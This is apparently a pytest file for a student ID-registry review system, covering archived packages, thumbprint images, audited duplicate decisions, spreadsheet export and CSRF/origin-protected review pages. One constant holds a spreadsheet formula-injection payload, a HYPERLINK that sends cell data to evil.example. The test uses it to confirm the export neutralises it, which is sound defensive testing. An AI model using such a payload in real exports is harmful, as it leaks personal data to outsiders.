"""Reviewing clusters: the delivered packages are kept, decisions are recorded with an
audit trail and exported for the schools, and the review pages show a cluster's images
and record a decision behind the access token, the CSRF token and the origin check."""

from __future__ import annotations

import csv
import os
import shutil
import stat
import subprocess
from pathlib import Path

import openpyxl
import pytest

from idcapture.errors import ConfigError
from idcapture.province import Registry, dedup, ingest
from idcapture.province.archive import PackageImages, archive_path
from idcapture.province.review import cluster_view, export_decisions, image_member
from idcapture.station.export import encrypt_package

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
HOSTILE_NOTE = '=HYPERLINK("http://evil.example/?"&J2,"x")'


@pytest.fixture
def registry(packages: list[Path], tmp_path: Path) -> Path:
    """A registry with the test province ingested and checked."""
    folder = tmp_path / "reg"
    with Registry(folder) as reg:
        ingest(reg, packages, jobs=1)
        dedup(reg, full=True, false_clusters=0.01, jobs=1)
    return folder


def _biometric_cluster(reg: Registry) -> dict[str, object]:
    return next(c for c in reg.clusters() if "biometric" in c["kinds"])


def test_ingest_keeps_each_package_as_delivered_owner_only(registry: Path,
                                                          packages: list[Path]) -> None:
    with Registry(registry) as reg:
        for pkg in reg.packages():
            kept = archive_path(registry, pkg["sha256"])
            assert kept.is_file()
            assert stat.S_IMODE(kept.stat().st_mode) == 0o600
        assert stat.S_IMODE((registry / "packages").stat().st_mode) == 0o700
        assert len(list((registry / "packages").iterdir())) == len(packages)


def test_cluster_view_shows_the_thumb_images_from_the_package(registry: Path) -> None:
    with Registry(registry) as reg:
        c = _biometric_cluster(reg)
        view = cluster_view(reg, int(c["cluster"]))  # type: ignore[call-overload]
        assert view is not None and len(view.members) == 2
        images = PackageImages(registry)
        for m in view.members:
            assert "*" in m.id_masked
            assert m.images["right_thumb"] and m.images["left_thumb"]
            where = image_member(reg, m.rid, "right_thumb")
            assert where is not None
            data = images.read(*where)
            assert data is not None and data.startswith(b"\x89PNG")
        assert images.read(where[0], "../x") is None
        images.close()
        assert cluster_view(reg, 999) is None


def test_encrypted_package_images_need_the_passphrase(packages: list[Path],
                                                      tmp_path: Path) -> None:
    enc = tmp_path / "enc.idcx"
    encrypt_package(packages[0], enc, "correct horse")
    with Registry(tmp_path / "r") as reg:
        [res] = ingest(reg, [enc], passphrase="correct horse", jobs=1)
        assert res.status == "ingested"
        rid = next(r.rid for r in reg.records()
                   if reg.record_fields(r.rid).get("right_thumb_file"))
        where = image_member(reg, rid, "right_thumb")
        assert where is not None
        assert PackageImages(tmp_path / "r").read(*where) is None
        assert PackageImages(tmp_path / "r", "wrong").read(*where) is None
        data = PackageImages(tmp_path / "r", "correct horse").read(*where)
        assert data is not None and data.startswith(b"\x89PNG")
    # the archive is the delivered (encrypted) file, byte for byte
    kept = archive_path(tmp_path / "r", res.sha256)
    assert kept.read_bytes() == enc.read_bytes()


def test_decisions_are_audited_and_the_latest_counts(registry: Path) -> None:
    with Registry(registry) as reg:
        members = list(_biometric_cluster(reg)["members"])  # type: ignore[call-overload]
        assert reg.decision_for(members) is None
        reg.record_decision(members, "needs-visit", "ask both schools", "王审核")
        d = reg.record_decision(list(reversed(members)), "same-person", "", "李审核")
        assert reg.decision_for(members) == d and d.reviewer == "李审核"
        assert [x.decision for x in reg.decision_log()] == ["needs-visit", "same-person"]
        assert [x.decision for x in reg.decisions()] == ["same-person"]
        with pytest.raises(ConfigError, match="unknown decision"):
            reg.record_decision(members, "maybe", "", "x")
        with pytest.raises(ConfigError, match="two or more"):
            reg.record_decision(members[:1], "same-person", "", "x")
        with pytest.raises(ConfigError, match="does not hold"):
            reg.record_decision([members[0], 10**6], "same-person", "", "x")
        assert len(reg.decision_log()) == 2


def test_decision_export_opens_in_openpyxl_and_libreoffice(registry: Path,
                                                           tmp_path: Path) -> None:
    with Registry(registry) as reg:
        c = _biometric_cluster(reg)
        members = list(c["members"])  # type: ignore[call-overload]
        reg.record_decision(members, "different-people", HOSTILE_NOTE, "王审核")
        out = tmp_path / "decisions.xlsx"
        assert export_decisions(reg, out) == len(members)
        regs = {reg.record(m).registration_number for m in members}
        ids = {reg.record(m).id_number for m in members}
    wb = openpyxl.load_workbook(out)
    rows = [[c.value for c in r] for r in wb.worksheets[0].iter_rows()]
    for r in wb.worksheets[0].iter_rows():
        assert all(c.data_type != "f" for c in r)
    assert rows[0][0].startswith("簇")
    body = rows[1:]
    assert {r[7] for r in body} == regs and {r[9] for r in body} == ids
    assert all(r[1] == "different-people" and r[3] == "王审核" for r in body)
    assert all(r[2] == "'" + HOSTILE_NOTE for r in body)
    if SOFFICE is None:
        if os.environ.get("CI"):
            pytest.fail("LibreOffice is missing under CI (./run.sh setup installs it)")
        pytest.skip("LibreOffice (soffice) is not installed; ./run.sh setup installs it")
    conv = tmp_path / "conv"
    proc = subprocess.run([SOFFICE, f"-env:UserInstallation={(tmp_path / 'lo').as_uri()}",
                           "--headless", "--norestore", "--convert-to",
                           "csv:Text - txt - csv (StarCalc):44,34,76,1", "--outdir", str(conv),
                           str(out)], capture_output=True, text=True, timeout=240)
    assert proc.returncode == 0, proc.stderr[-500:]
    with open(conv / "decisions.csv", encoding="utf-8") as fh:
        lines = list(csv.reader(fh))
    assert {r[7] for r in lines[1:]} == regs and {r[9] for r in lines[1:]} == ids
    assert all(r[2] == "'" + HOSTILE_NOTE for r in lines[1:])


# ---------------------------------------------------------------- the review pages

ORIGIN = "http://testserver"


def _client(registry: Path):  # type: ignore[no-untyped-def]
    pytest.importorskip("starlette", reason="the review pages need the web extra")
    from starlette.testclient import TestClient

    from idcapture.web.review import ReviewConfig, create_review_app

    app = create_review_app(ReviewConfig(registry=registry, token="tok",
                                         hosts=("testserver",)))
    return TestClient(app, base_url=ORIGIN)


def _login(client, reviewer: str = "王审核") -> str:  # type: ignore[no-untyped-def]
    import re

    page = client.get("/login")
    pre = re.search(r'name="csrf" value="([^"]+)"', page.text).group(1)
    bad = client.post("/login", data={"csrf": pre, "token": "nope", "reviewer": reviewer},
                      headers={"Origin": ORIGIN}, follow_redirects=False)
    assert bad.status_code == 403
    page = client.get("/login")
    pre = re.search(r'name="csrf" value="([^"]+)"', page.text).group(1)
    r = client.post("/login", data={"csrf": pre, "token": "tok", "reviewer": reviewer},
                    headers={"Origin": ORIGIN}, follow_redirects=False)
    assert r.status_code == 303
    home = client.get("/")
    return str(re.search(r'name="csrf-token" content="([^"]+)"', home.text).group(1))


def test_review_pages_show_evidence_and_record_a_decision(registry: Path) -> None:
    with Registry(registry) as reg:
        c = _biometric_cluster(reg)
        cid, members = int(c["cluster"]), list(c["members"])  # type: ignore[call-overload]
        ids = [reg.record(m).id_number for m in members]
    with _client(registry) as client:
        assert client.get("/", headers={"Accept": "text/html"},
                          follow_redirects=False).status_code == 303  # to /login
        assert client.get(f"/image/{members[0]}/right_thumb").status_code == 401
        csrf = _login(client)
        listing = client.get("/")
        assert f'data-cluster="{cid}"' in listing.text
        page = client.get(f"/cluster/{cid}")
        assert page.status_code == 200
        for m, full in zip(members, ids, strict=True):
            assert f'src="/image/{m}/right_thumb"' in page.text
            assert full not in page.text  # ID numbers masked on the page
        img = client.get(f"/image/{members[0]}/left_thumb")
        assert img.status_code == 200 and img.headers["content-type"] == "image/png"
        assert client.get(f"/image/{members[0]}/passport").status_code == 404
        assert client.get("/cluster/abc").status_code == 404
        body = {"members": members, "decision": "same-person", "note": "同一学生"}
        # no CSRF token, a foreign origin: refused
        assert client.post("/api/decision", json=body,
                           headers={"Origin": ORIGIN}).status_code == 403
        assert client.post("/api/decision", json=body, headers={
            "Origin": "http://evil.example", "X-CSRF-Token": csrf}).status_code == 403
        bad = client.post("/api/decision", json={**body, "decision": "perhaps"},
                          headers={"Origin": ORIGIN, "X-CSRF-Token": csrf})
        # refused in the page's language (Chinese by default, English by the cookie)
        assert bad.status_code == 409 and "未知的裁定 'perhaps'" in bad.json()["error"]
        client.cookies.set("idc_lang", "en")
        bad = client.post("/api/decision", json={**body, "decision": "perhaps"},
                          headers={"Origin": ORIGIN, "X-CSRF-Token": csrf})
        assert "unknown decision 'perhaps'" in bad.json()["error"]
        assert client.get("/cluster/abc").json() == {"error": "no such cluster"}
        client.cookies.set("idc_lang", "zh")
        assert client.get("/cluster/abc").json() == {"error": "没有这个疑似重复组"}
        assert client.post("/api/decision", json={**body, "members": "1,2"}, headers={
            "Origin": ORIGIN, "X-CSRF-Token": csrf}).status_code == 400
        ok = client.post("/api/decision", json=body,
                         headers={"Origin": ORIGIN, "X-CSRF-Token": csrf})
        assert ok.status_code == 200 and ok.json()["reviewer"] == "王审核"
        after = client.get(f"/cluster/{cid}")
        assert "同一学生" in after.text and 'id="history"' in after.text
        xlsx = client.get("/decisions.xlsx")
        assert xlsx.status_code == 200 and xlsx.content.startswith(b"PK")
    with Registry(registry) as reg:
        d = reg.decision_for(members)
        assert d is not None and (d.decision, d.note, d.reviewer) == (
            "same-person", "同一学生", "王审核")
